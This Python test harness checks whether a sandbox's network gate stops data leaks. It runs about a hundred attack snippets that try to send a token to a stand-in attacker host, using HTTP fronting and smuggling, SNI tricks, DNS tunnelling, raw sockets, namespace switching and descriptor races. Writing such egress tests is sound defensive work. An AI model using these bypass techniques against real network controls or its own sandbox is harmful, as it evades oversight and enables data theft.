"""Attacks on the gate of a room, against servers in a network namespace of their own.

Usage: rig.py ROOM [PREFIX…]   (in fresh network and mount namespaces, as root of them)

Every attack carries a token. It has escaped if a server or the name server saw the token.
Prints one line an attack: `name blocked|escaped|ok|broken detail`.
"""
import os, re, socket, struct, subprocess, sys, tempfile, threading, time

GOOD, EVIL, META, PRIV, SPLIT = '93.184.216.35', '93.184.216.34', '169.254.169.254', '10.11.12.13', '93.184.216.36'
ZONE = {'allowed.test': [GOOD], 'x.allowed.test': [GOOD], 'two.allowed.test': [GOOD], 'evil.test': [EVIL],
        'priv.allowed.test': [PRIV], 'meta.allowed.test': [META], 'loop.allowed.test': ['127.0.0.1'],
        'corp.test': [PRIV], 'db.test': [GOOD], 'split.test': [SPLIT, PRIV], 'yes.test': [GOOD], 'no.test': [GOOD]}
RULES = ['allow allowed.test', 'allow corp.test', 'allow 10.11.12.0/24:8080', 'allow db.test:5432', 'allow db.test:7000', 'deny bad.allowed.test',
         'allow =exact.test', 'ask yes.test', 'ask no.test', 'allow 10.11.12.0/24:8081', 'allow localhost:7788', 'allow split.test:5432']

SERVER = r'''
import socket, struct, sys, threading
zone, log = eval(sys.argv[1]), open(sys.argv[2], 'a', buffering=1)
def dns():
    s = socket.socket(2, 2); s.bind(('93.184.216.34', 53)); flips = 0
    while 1:
        d, p = s.recvfrom(4096); i, n = 12, []
        while d[i]: n.append(d[i+1:i+1+d[i]].decode('latin1')); i += d[i] + 1
        q, t, name = d[12:i+5], struct.unpack('>H', d[i+1:i+3])[0], '.'.join(n).lower()
        log.write('DNS %s %d\n' % (name, t))
        a = zone.get(name)
        if name == 'flip.allowed.test': flips += 1; a = ['93.184.216.35'] if flips < 2 else ['169.254.169.254']
        if name.startswith('sub'): a = ['93.184.216.35']
        if a and t == 1:
            r = b''.join(b'\xc0\x0c\0\1\0\1\0\0\0\0\0\4' + socket.inet_aton(x) for x in a)
            s.sendto(d[:2] + b'\x81\x80\0\1' + struct.pack('>H', len(a)) + b'\0\0\0\0' + q + r, p)
        else: s.sendto(d[:2] + (b'\x81\x80' if a else b'\x81\x83') + b'\0\1\0\0\0\0\0\0' + q, p)
def tcp(port):
    s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(('0.0.0.0', port)); s.listen(512)
    def serve(c):
        try:
            if port in (5432, 7000): c.sendall(b'server speaks first\n')
            if port == 5432 and log.write('PEER %s\n' % c.getpeername()[0]): pass
            while 1:
                d = c.recv(65536)
                if not d: break
                log.write('TCP %s:%d %r\n' % (c.getsockname()[0], port, d[:3000]))
                if b'reset' in d: c.setsockopt(1, 13, struct.pack('ii', 1, 0)); c.close(); return
                if b'websocket' in d: c.sendall(b'HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\n\r\n')
                elif b'hostile' in d: c.sendall(b'HTTP/1.1 200 OK\r\nLocation: http://evil.test/\r\n' + b'X: y\r\n' * 9999 + b'\r\n' + b'z' * 99999); c.close(); return
                else: c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nhello\n')
        except OSError: pass
    while 1: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
def udp(port):
    s = socket.socket(2, 2); s.bind(('0.0.0.0', port))
    while 1: log.write('UDP %r\n' % s.recv(4096))
for p in (22, 25, 80, 443, 5432, 7000, 8080, 9418): threading.Thread(target=tcp, args=(p,), daemon=True).start()
for p in (443, 9999): threading.Thread(target=udp, args=(p,), daemon=True).start()
dns()
'''
PRELUDE = r'''
import socket, struct, sys, os, time, ctypes
GOOD, EVIL, META, PRIV, TOK = '93.184.216.35', '93.184.216.34', '169.254.169.254', '10.11.12.13', sys.argv[1]
T = TOK.encode()
def tcp(h, p, data=b'', t=4):
    s = socket.create_connection((h, p), t)
    if data: s.sendall(data)
    return s
def get(h, host=None, path='/', p=80): return tcp(h, p, ('GET %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (path, host or h)).encode()).recv(999)
def hello(name):
    n = name if isinstance(name, bytes) else name.encode()
    e = struct.pack('>HHHBH', 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
    b = b'\3\3' + b'R' * 32 + b'\0' + b'\0\2\x13\1' + b'\1\0' + struct.pack('>H', len(e)) + e
    h = b'\1' + struct.pack('>I', len(b))[1:] + b
    return b'\x16\3\1' + struct.pack('>H', len(h)) + h
def query(name, t=1, to='192.0.0.1', stream=False):
    q = b'\x12\x34\1\0\0\1\0\0\0\0\0\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', t, 1)
    if stream:
        s = tcp(to, 53, struct.pack('>H', len(q)) + q); return s.recv(999)[2:]
    s = socket.socket(2, 2); s.settimeout(4); s.sendto(q, (to, 53)); return s.recv(999)
def proxy(raw, t=4):
    s = tcp('192.0.0.1', 3128, raw, t); return s.recv(9999)
def cookie(s): return struct.unpack('Q', s.getsockopt(1, 71, 8))[0]
HERE = cookie(socket.socket())
libc = ctypes.CDLL(None, use_errno=True)
def at(h, p): return struct.pack('=HH4s8x', 2, socket.htons(p), socket.inet_aton(h))
def connect(fd, raw): return libc.connect(fd, raw, len(raw))
UNSPEC = struct.pack('=H14x', 0)
# A connected socket of the host's network, or the attack does not run.
def given(h='db.test', p=5432):
    s = tcp(h, p)
    if cookie(s) == HERE: print('RAN NOT', flush=True); raise SystemExit
    s.recv(99) if p == 5432 else 0
    return s
def again(s, h=EVIL, p=80):
    for how in (lambda: connect(s.fileno(), UNSPEC), lambda: s.connect((h, p)), lambda: connect(s.fileno(), at(h, p)), lambda: s.sendall(T), lambda: s.sendto(T, (h, p)), lambda: s.sendto(T, 0x20000000, (h, p)), lambda: s.sendmsg([T], [], 0x20000000, (h, p))):
        try: how()
        except OSError: pass
    time.sleep(.2)
socket.getaddrinfo('allowed.test', 80)
print('RAN', flush=True)
'''
# Attacks: the token must not arrive.
ATTACKS = {
    'denied name': 'get("evil.test", path="/" + TOK)',
    'name as data': 'socket.getaddrinfo(TOK + ".evil.test", 80)',
    'exact name has no subdomain': 'socket.getaddrinfo(TOK + ".exact.test", 80)',
    'denied below allowed': 'socket.getaddrinfo(TOK + ".bad.allowed.test", 80)',
    'literal address': 'get(EVIL, path="/" + TOK)',
    'literal of another port': 'tcp(GOOD, 25, T)',
    'allowed name, other port': 'tcp("allowed.test", 9418, T)',
    'ssh port of a name that is no git host': 'tcp("allowed.test", 22, T)',
    'private address behind a name': 'get("priv.allowed.test", path="/" + TOK)',
    'metadata behind a name': 'get("meta.allowed.test", path="/" + TOK)',
    'loopback behind a name': 'get("loop.allowed.test", path="/" + TOK)',
    'private address, granted on another port only': 'get(PRIV, path="/" + TOK)',
    'check and use': 'get("flip.allowed.test"); time.sleep(.1); get("flip.allowed.test") if 0 else get(META, host="flip.allowed.test", path="/" + TOK)',
    'fronting by Host': 'get("allowed.test", host=TOK + ".evil.test")',
    'fronting in the second request': 's = tcp("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"); s.recv(999); s.sendall(b"GET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99)',
    'fronting behind a body': 's = tcp("allowed.test", 80, b"POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 2\\r\\n\\r\\nhiGET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99); time.sleep(.2)',
    'two lengths': 'tcp("allowed.test", 80, b"POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 2\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + T).recv(9)',
    'two hosts': 'tcp("allowed.test", 80, b"GET /" + T + b" HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n").recv(9)',
    'absolute form of another host': 'tcp("allowed.test", 80, b"GET http://evil.test/" + T + b" HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n").recv(9)',
    'CONNECT on port 80': 'tcp("allowed.test", 80, b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n" + T).recv(9)',
    'pipelined after an upgrade that was refused': 's = tcp("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: h2c\\r\\n\\r\\nGET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99); time.sleep(.2)',
    'SNI of another host': 'tcp("allowed.test", 443, hello(TOK + ".evil.test")).recv(9)',
    'SNI with a NUL': 'tcp("allowed.test", 443, hello(b"allowed.test\\0" + T)).recv(9)',
    'SNI in pieces': 's = tcp("allowed.test", 443); [ (s.sendall(bytes([b])), time.sleep(.001)) for b in hello(TOK + ".evil.test") ]; s.recv(9)',
    'TLS without SNI': 'tcp("allowed.test", 443, b"\\x16\\3\\1\\0\\x2f\\1\\0\\0\\x2b\\3\\3" + T.ljust(32, b"x") + b"\\0\\0\\2\\x13\\1\\1\\0\\0\\0").recv(9)',
    'no TLS on 443': 'tcp("allowed.test", 443, b"SSH-2.0-" + T + b"\\r\\n").recv(9)',
    'TLS on port 80': 'tcp("allowed.test", 80, hello(TOK + ".evil.test")).recv(9)',
    'HTTP of another host on an open port': 'tcp("db.test", 7000, b"GET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n").recv(99); time.sleep(.2)',
    'TLS of another host on an open port': 'tcp("db.test", 7000, hello(TOK + ".evil.test")); time.sleep(.2)',
    'query to another resolver': 'query(TOK + ".evil.test", to=EVIL)',
    'query to another resolver by TCP': 'query(TOK + ".evil.test", to=EVIL, stream=True)',
    'TXT record': 'query(TOK + ".evil.test", t=16)',
    'query by TCP for a denied name': 'query(TOK + ".evil.test", stream=True)',
    'data in a long label': 'socket.getaddrinfo("sub" + TOK + "a" * 50 + ".allowed.test", 80)',
    'data in many labels': 'socket.getaddrinfo("sub" + ".".join([TOK] + ["abcdefghij"] * 10) + ".allowed.test", 80)',
    'UDP': 'socket.socket(2, 2).sendto(T, (GOOD, 9999)); time.sleep(.2)',
    'QUIC': 'socket.socket(2, 2).sendto(T, (GOOD, 443)); time.sleep(.2)',
    'UDP to the gate': 'socket.socket(2, 2).sendto(T, ("192.0.0.1", 9999)); time.sleep(.1)',
    'fast open': 's = socket.socket(); s.sendto(b"GET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", 0x20000000, (GOOD, 80)); s.recv(9)',
    'MPTCP': 's = socket.socket(2, 1, 262); s.settimeout(3); s.connect((EVIL, 80)); s.sendall(T); time.sleep(.2)',
    'raw socket': 's = socket.socket(2, 3, 255); s.sendto(T, (EVIL, 0))',
    'packet socket': 's = socket.socket(17, 3, 0x0800); s.send(T)',
    'netlink route': 's = socket.socket(16, 3, 0); s.send(struct.pack("IHHIIBBBBBBBBI", 28, 24, 5, 1, 0, 2, 0, 0, 0, 254, 3, 0, 1, 0)); r = s.recv(99); assert struct.unpack("i", r[16:20])[0] < 0; raise SystemExit',
    'zone id': 'tcp("fe80::1%lo", 80, T)',
    'mapped address': 's = socket.socket(10, 1); s.settimeout(3); s.connect(("::ffff:" + EVIL, 80)); s.sendall(T)',
    'NAT64 address': 'tcp("64:ff9b::5db8:d822", 80, T)',
    'proxy CONNECT to a denied name': 'proxy(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n" + T)',
    'proxy CONNECT to port 25': 'proxy(b"CONNECT allowed.test:25 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n" + T)',
    'proxy CONNECT to an address': 'proxy(("CONNECT %s:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % EVIL).encode() + T)',
    'proxy CONNECT, then another SNI': 's = tcp("192.0.0.1", 3128, b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n"); s.recv(99); s.sendall(hello(TOK + ".evil.test")); s.recv(9)',
    'proxy GET of a denied name': 'proxy(b"GET http://evil.test/" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")',
    'proxy second request': 's = tcp("192.0.0.1", 3128, b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://evil.test/" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99); s.sendall(b"GET http://evil.test/" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); time.sleep(.2)',
    'handed over, connected again': 'again(given())',
    'handed over, connected again by a thread in a loop': 'import threading as th\ns = given()\n[ th.Thread(target=lambda: [ connect(s.fileno(), UNSPEC) or connect(s.fileno(), at(EVIL, 80)) for i in range(2000) ], daemon=True).start() for i in range(4) ]; time.sleep(.5); again(s)',
    'handed over, closed by the server, connected again': 's = given(); s.sendall(b"reset"); time.sleep(.2); again(s)',
    'handed over, shut down, connected again': 's = given(); s.shutdown(2); time.sleep(.2); again(s)',
    'handed over, fast open set, connected again': 's = given(); s.sendall(b"reset"); time.sleep(.2)\ntry: s.setsockopt(6, 30, 1)\nexcept OSError: pass\nagain(s)',
    'handed over, duplicated, connected again': 's = given(); again(socket.socket(fileno=os.dup(s.fileno())))',
    'handed over, in a child, connected again': 's = given()\nif os.fork() == 0: again(s); os._exit(0)\nos.wait()',
    'handed over, in a program, connected again': 's = given(); os.set_inheritable(s.fileno(), True); os.spawnv(0, "/usr/bin/python3", ["python3", "-c", "import socket, sys\\ns = socket.socket(fileno=%d)\\ntry: s.connect((%r, 80))\\nexcept OSError: pass\\ntry: s.sendall(%r)\\nexcept OSError: pass" % (s.fileno(), EVIL, T)])',
    'handed over by a unix socket, connected again': 's = given(); a, b = socket.socketpair(); socket.send_fds(a, [b"x"], [s.fileno()])\nif os.fork() == 0: again(socket.socket(fileno=socket.recv_fds(b, 1, 1)[1][0])); os._exit(0)\nos.wait()',
    'handed over, the address changed meanwhile': 'import threading as th\nb = ctypes.create_string_buffer(at(GOOD, 5432), 16); go = [1]\ndef flip():\n  while go: b.raw = at(EVIL, 80); b.raw = at(GOOD, 5432)\nth.Thread(target=flip, daemon=True).start()\nfor i in range(60):\n  s = socket.socket(); s.settimeout(2); libc.connect(s.fileno(), b, 16)\n  try: s.sendall(b"GET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n") if s.getpeername()[0] == EVIL else 0\n  except OSError: pass',
    'handed over, the descriptor changed meanwhile': 'import threading as th\ns = given(); x = socket.socket(); x.setblocking(0); n = x.fileno(); go = [1]\nth.Thread(target=lambda: [ os.dup2(s.fileno(), n) for i in range(3000) ], daemon=True).start()\nfor i in range(60):\n  connect(n, at(EVIL, 80))\n  try: os.write(n, T) if socket.socket(fileno=os.dup(n)).getpeername()[0] == EVIL else 0\n  except OSError: pass',
    'handed over, listening': 's = given(); s.sendall(b"reset"); time.sleep(.2)\ntry: s.listen(1); print(s.getsockname()); os.write(2, T)\nexcept OSError: raise SystemExit\nopen("/proc/self/nothing" + TOK)',
    'handed over, source route': 's = given(); s.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton(EVIL) + bytes(1)); s.sendall(T)',
    'handed over, of IPv6, routing header': 's = socket.socket(10, 1); s.connect(("::ffff:" + GOOD, 5432)); s.setsockopt(41, 57, bytes([0, 2, 0, 1, 0, 0, 0, 0]) + bytes(16)); s.sendall(T)',
    'handed over, the host namespace asked for': 'import fcntl\ns = given(); fd = fcntl.ioctl(s.fileno(), 0x894C, 0); libc.setns(fd, 0x40000000); tcp(EVIL, 80, T)',
    'handed over, interface changed': 'import fcntl\ns = given(); fcntl.ioctl(s.fileno(), 0x8914, struct.pack("16sH14x", b"lo", 0)); raise SystemExit',
    'handed over, repair mode': 's = given(); s.setsockopt(6, 19, 1); again(s)',
    'not handed over: other port of a native name': 's = tcp("db.test", 22, T)',
    'not handed over: private address of a native name': 's = tcp(PRIV, 5432, T)',
    'not handed over: native port of another address': 'tcp(EVIL, 5432, T)',
    'not handed over: address beside a granted range': 'tcp("10.11.14.1", 25, T)',
    'not handed over: host loopback of another port': 'tcp("127.0.0.1", 22, T)',
    'not handed over: 0.0.0.0': 'tcp("0.0.0.0", 22, T)',
    'not handed over: other loopback address': 'tcp("127.0.0.2", 22, T)',
    'fronting on a granted name by IPv6 mapping': 's = socket.socket(10, 1); s.settimeout(3); s.connect(("::ffff:" + GOOD, 443)); s.sendall(hello(TOK + ".evil.test")); s.recv(9)',
    'CONNECT to port 25 of a granted range through the proxy': 'proxy(b"CONNECT 10.11.12.13:25 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" + T)',
    'decimal address': 'tcp("1572395042", 80, T)',
    'octal address': 'tcp("0135.0270.0330.042", 80, T)',
    'hexadecimal address': 'tcp("0x5db8d822", 80, T)',
    '6to4 address': 'tcp("2002:5db8:d822::1", 80, T)',
    'name with a trailing dot and capitals': 'get("EVIL.test.", path="/" + TOK)',
    'SNI with a trailing dot': 'tcp("allowed.test", 443, hello(TOK + ".evil.test.")).recv(9)',
    'two server names': 'n = b"allowed.test"; m = T + b".evil.test"; l = b"\\0" + struct.pack(">H", len(n)) + n + b"\\0" + struct.pack(">H", len(m)) + m; e = struct.pack(">HHH", 0, len(l) + 2, len(l)) + l; b = b"\\3\\3" + b"R" * 32 + b"\\0\\0\\2\\x13\\1\\1\\0" + struct.pack(">H", len(e)) + e; h = b"\\1" + struct.pack(">I", len(b))[1:] + b; tcp("allowed.test", 443, b"\\x16\\3\\1" + struct.pack(">H", len(h)) + h).recv(9)',
    'Host with a port of another service': 'tcp("allowed.test", 80, b"GET /" + T + b" HTTP/1.1\\r\\nHost: allowed.test:25\\r\\n\\r\\n").recv(9)',
    'Host with userinfo': 'tcp("allowed.test", 80, b"GET /" + T + b" HTTP/1.1\\r\\nHost: allowed.test@evil.test\\r\\n\\r\\n").recv(9)',
    'folded Host': 'tcp("allowed.test", 80, b"GET /" + T + b" HTTP/1.1\\r\\nHost: allowed.test\\r\\n evil.test\\r\\n\\r\\n").recv(9)',
    'bare line feeds': 'tcp("allowed.test", 80, b"GET / HTTP/1.1\\nHost: allowed.test\\n\\nGET /" + T + b" HTTP/1.1\\nHost: evil.test\\n\\n").recv(9); time.sleep(.2)',
    'chunk with an extension and another request': 'tcp("allowed.test", 80, b"POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n2;x=\\n\\r\\nhi\\r\\n0\\r\\n\\r\\nGET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n").recv(9); time.sleep(.2)',
    'HTTP 2 preface on port 80': 'tcp("allowed.test", 80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + T).recv(9)',
    'names as data in number': 'for i in range(600):\n  try: socket.getaddrinfo("sub%03d%s.allowed.test" % (i, TOK if i > 400 else ""), 80)\n  except OSError: pass',
    'query with two questions': 'q = b"\\x12\\x34\\1\\0\\0\\2\\0\\0\\0\\0\\0\\0\\7allowed\\4test\\0\\0\\1\\0\\1" + bytes([len(TOK)]) + T + b"\\4evil\\4test\\0\\0\\1\\0\\1"; s = socket.socket(2, 2); s.settimeout(1); s.sendto(q, ("192.0.0.1", 53)); s.recv(99)',
    'query with a compressed name': 'q = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(TOK)]) + T + b"\\xc0\\x0c\\0\\1\\0\\1"; s = socket.socket(2, 2); s.settimeout(1); s.sendto(q, ("192.0.0.1", 53)); s.recv(99)',
    'UDP with several messages': 's = socket.socket(2, 2); s.sendmsg([T], [], 0, (EVIL, 443)); time.sleep(.1)',
    'connected UDP': 's = socket.socket(2, 2); s.connect((GOOD, 443)); s.send(T); s.send(T)',
    'multicast': 'socket.socket(2, 2).sendto(T, ("224.0.0.251", 5353))',
    'SCTP': 's = socket.socket(2, 1, 132); s.connect((EVIL, 80)); s.sendall(T)',
    'SMC': 's = socket.socket(43, 1, 0); s.connect((EVIL, 80)); s.sendall(T)',
    'VSOCK': 's = socket.socket(40, 1, 0); s.settimeout(1); s.connect((2, 80)); s.sendall(T)',
    'namespace of the gate': 'fd = os.open("/proc/1/ns/net", 0); libc.setns(fd, 0x40000000); tcp(EVIL, 80, T)',
    'route of its own': 's = socket.socket(16, 3, 0); m = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0); s.send(struct.pack("IHHII", 28, 24, 0x605, 1, 0) + m); r = s.recv(99); assert struct.unpack("i", r[16:20])[0] < 0; raise SystemExit',
    'a question that is answered no': 'get("no.test", path="/" + TOK)',
}
# Uses: must print OK.
USES = {
    'allowed name': 'print("OK" if b"hello" in get("allowed.test") else "")',
    'subdomain': 'print("OK" if b"hello" in get("x.allowed.test") else "")',
    'TLS of an allowed name': 'print("OK" if b"hello" in tcp("allowed.test", 443, hello("allowed.test")).recv(99) else "")',
    'TLS in pieces': 's = tcp("allowed.test", 443); [ (s.sendall(bytes([b])), time.sleep(.001)) for b in hello("allowed.test") ]; print("OK" if b"hello" in s.recv(99) else "")',
    'kept connection': 's = tcp("allowed.test", 80); r = [ (s.sendall(b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"), s.recv(999))[1] for i in range(20) ]; print("OK" if all(b"hello" in x for x in r) else "")',
    'server speaks first': 'print("OK" if b"first" in tcp("db.test", 5432).recv(99) else "")',
    'company name with a granted address': 'print("OK" if b"hello" in get("corp.test", p=8080, host="corp.test:8080") else "")',
    'granted address': 'print("OK" if b"hello" in get(PRIV, p=8080) else "")',
    'web socket': 's = tcp("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: websocket\\r\\n\\r\\n"); a = s.recv(99); s.sendall(b"\\x81\\x02hi"); print("OK" if b"101" in a and s.recv(99) else "")',
    'another type has no data': 'r = query("allowed.test", t=65); print("OK" if r[3] & 15 == 0 and r[6:8] == b"\\0\\0" else r)',
    'resolver by TCP': 'print("OK" if socket.inet_aton(GOOD) in query("allowed.test", stream=True) else "")',
    'denied name is denied at once': 't = time.time()\ntry: socket.getaddrinfo("evil.test", 80)\nexcept OSError: print("OK" if time.time() - t < 1 else "slow")',
    'denied address is refused at once': 't = time.time()\ntry: tcp(EVIL, 443)\nexcept ConnectionRefusedError: print("OK" if time.time() - t < 1 else "slow")',
    'own server on a port of the gate': 's = socket.socket(); s.bind(("0.0.0.0", 5432)); s.listen(5); c = socket.create_connection(("127.0.0.1", 5432)); print("OK")',
    'proxy': 'print("OK" if b"hello" in proxy(b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n") else "")',
    'proxy CONNECT': 's = tcp("192.0.0.1", 3128, b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n"); a = s.recv(99); s.sendall(hello("allowed.test")); print("OK" if b"hello" in s.recv(99) else a)',
    'a question that is answered yes': 'print("OK" if b"hello" in get("yes.test") else "")',
    'slow and half-open clients do not block others': 'a = [ tcp("allowed.test", 443) for i in range(200) ]; [ x.sendall(b"\\x16") for x in a ]; print("OK" if b"hello" in get("allowed.test") else "")',
    'resets do not block others': 'import struct as st\nfor i in range(200):\n  s = tcp("allowed.test", 80); s.setsockopt(1, 13, st.pack("ii", 1, 0)); s.close()\nprint("OK" if b"hello" in get("allowed.test") else "")',
    'a hostile answer': 'r = get("allowed.test", path="/hostile"); print("OK" if r else "")',
    'handed over': 's = given(); s.sendall(b"x"); print("OK" if b"hello" in s.recv(99) and s.getpeername()[0] == GOOD else "")',
    'handed over, without waiting': 'socket.getaddrinfo("db.test", 1); s = socket.socket(); s.setblocking(False); s.connect_ex((GOOD, 5432)); import select; select.select([s], [], [], 4); print("OK" if b"first" in s.recv(99) and cookie(s) != HERE and not s.getblocking() else "")',
    'handed over, options kept': 'socket.getaddrinfo("db.test", 1); s = socket.socket(); s.setsockopt(6, 1, 1); s.setsockopt(1, 9, 1); s.setsockopt(6, 4, 77); s.settimeout(None); s.connect((GOOD, 5432)); print("OK" if [s.getsockopt(6, 1), s.getsockopt(1, 9), s.getsockopt(6, 4)] == [1, 1, 77] and cookie(s) != HERE else "")',
    'not handed over, waited for with epoll': 'socket.getaddrinfo("db.test", 1); import select; s = socket.socket(); s.setblocking(False); e = select.epoll(); e.register(s, select.EPOLLIN); s.connect_ex((GOOD, 5432)); print("OK" if e.poll(4) and b"first" in s.recv(99) else "")',
    'not handed over, with a duplicate': 'socket.getaddrinfo("db.test", 1); s = socket.socket(); d = s.dup(); s.connect((GOOD, 5432)); print("OK" if b"first" in d.recv(99) else "")',
    'handed over, closes at execution': 's = given(); os.set_inheritable(s.fileno(), False); import fcntl; print("OK" if fcntl.fcntl(s.fileno(), 1) & 1 else "")',
    'happy eyeballs': 's = socket.create_connection(("split.test", 5432), 4); print("OK" if b"first" in s.recv(99) else "")',
    'refused by the server': 't = time.time()\ntry: tcp(PRIV, 8080).close(); tcp(PRIV, 8081)\nexcept OSError: print("OK" if time.time() - t < 1 else "slow")',
    'connected twice': 's = given(); r = connect(s.fileno(), at(GOOD, 5432)); print("OK" if (r, ctypes.get_errno()) == (-1, 106) else ctypes.get_errno())',
    'half close': 's = tcp("allowed.test", 443, hello("allowed.test")); s.shutdown(1); print("OK" if b"hello" in s.recv(99) else "")',
    'much data': 's = tcp("db.test", 7000); s.recv(99); import threading as t\nt.Thread(target=lambda: [ s.sendall(b"x" * 65536) for i in range(300) ], daemon=True).start(); n = 0\nwhile n < 40 * 40: n += len(s.recv(65536))\nprint("OK")',
}

def sh(*words): subprocess.run(words, check=True)

def main():
    room, prefix = sys.argv[1], sys.argv[2:]
    base = tempfile.mkdtemp(); os.chmod(base, 0o755)
    work = base + '/work'; os.mkdir(work); os.chmod(work, 0o777)
    log = base + '/log'; open(log, 'w').close()
    far = subprocess.Popen(['unshare', '-n', 'sleep', '600'])
    time.sleep(.3)
    inside = ['nsenter', '-t', str(far.pid), '-n']
    sh('ip', 'link', 'set', 'lo', 'up')
    sh('ip', 'link', 'add', 'out', 'type', 'veth', 'peer', 'name', 'far', 'netns', str(far.pid))
    sh('ip', 'addr', 'add', '10.200.0.1/30', 'dev', 'out'); sh('ip', 'link', 'set', 'out', 'up')
    sh(*inside, 'ip', 'link', 'set', 'lo', 'up')
    sh(*inside, 'ip', 'addr', 'add', '10.200.0.2/30', 'dev', 'far'); sh(*inside, 'ip', 'link', 'set', 'far', 'up')
    for address in (GOOD, EVIL, META, PRIV, SPLIT): sh(*inside, 'ip', 'addr', 'add', address + '/32', 'dev', 'lo')
    sh('ip', 'route', 'add', 'default', 'via', '10.200.0.2')
    server = subprocess.Popen([*inside, sys.executable, '-c', SERVER, repr(ZONE), log])
    time.sleep(.5)
    open(base + '/resolv.conf', 'w').write('nameserver %s\n' % EVIL)
    open(base + '/hosts', 'w').write('127.0.0.1 localhost\n')
    wrap = [*prefix, room, '--rw', work, '--cwd', work, '--resolver', base + '/resolv.conf', '--hosts', base + '/hosts', '--records', work + '/records']
    for rule in RULES: wrap += ['--host-rule', rule]
    def run(code, token):
        argv = [*wrap, '--', '/usr/bin/python3', '-c', PRELUDE + code, token]
        try: return subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
        except subprocess.TimeoutExpired: return subprocess.CompletedProcess(argv, 99, '', 'timeout')
    try:
        for number, (name, code) in enumerate(ATTACKS.items()):
            token = 'tok%dq%d' % (number, os.getpid())
            r = run(code, token); time.sleep(.05)
            # What a connection carries to its own server has not escaped.
            own = 'TCP %s:5432' % GOOD if name.startswith('handed over') else 'nothing'
            seen = [l for l in open(log) if token in l and not l.startswith(own)]
            print('%s: %s %s' % (name, 'escaped' if seen else 'blocked' if 'RAN' in r.stdout else 'norun', seen[:1] or r.stderr.strip().splitlines()[-1:]), flush=True)
        for name, code in USES.items():
            r = run(code, 'none')
            print('%s: %s %s' % (name, 'ok' if r.stdout.split() == ['RAN', 'OK'] else 'broken', '%d %s' % (r.returncode, (r.stdout + r.stderr).strip()[-300:]) if r.stdout.split() != ['RAN', 'OK'] else ''), flush=True)
        for line in open(work + '/records'): print('record:', line.strip())
    finally:
        server.kill(); far.kill()

main()
